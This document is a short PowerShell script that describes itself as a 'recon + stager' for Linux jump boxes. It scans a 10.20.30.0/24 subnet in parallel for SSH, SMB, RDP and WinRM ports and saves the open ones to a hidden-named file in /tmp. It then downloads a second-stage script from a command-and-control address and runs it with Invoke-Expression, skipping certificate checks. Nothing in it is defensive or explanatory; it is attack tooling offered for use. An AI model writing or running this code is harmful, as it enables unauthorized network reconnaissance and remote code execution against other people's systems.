#!/usr/bin/env pwsh
# Cross-platform recon + stager for pwsh 7 on Linux jump boxes.
param(
    [string]$Subnet = '10.20.30',
    [int[]]$Ports = @(22, 445, 3389, 5985)
)

$probes = foreach ($h in 1..254) {
    foreach ($p in $Ports) { [pscustomobject]@{ Ip = "$Subnet.$h"; Port = $p } }
}
$open = $probes | ForEach-Object -Parallel {
    $client = [System.Net.Sockets.TcpClient]::new()
    if ($client.ConnectAsync($_.Ip, $_.Port).Wait(150)) { '{0}:{1}' -f $_.Ip, $_.Port }
    $client.Dispose()
} -ThrottleLimit 64

$open | Set-Content -Path '/tmp/.cache_scan'

$c2 = $env:C2_URL ?? 'https://198.51.100.60'
$stage = Invoke-RestMethod -Uri "$c2/linux.ps1" -SkipCertificateCheck
$IsLinux ? (Invoke-Expression $stage) : (Write-Output 'windows path not built yet')

Test-Connection -TargetName '10.20.30.1' -TcpPort 445 -Quiet && Write-Output 'gateway smb open'
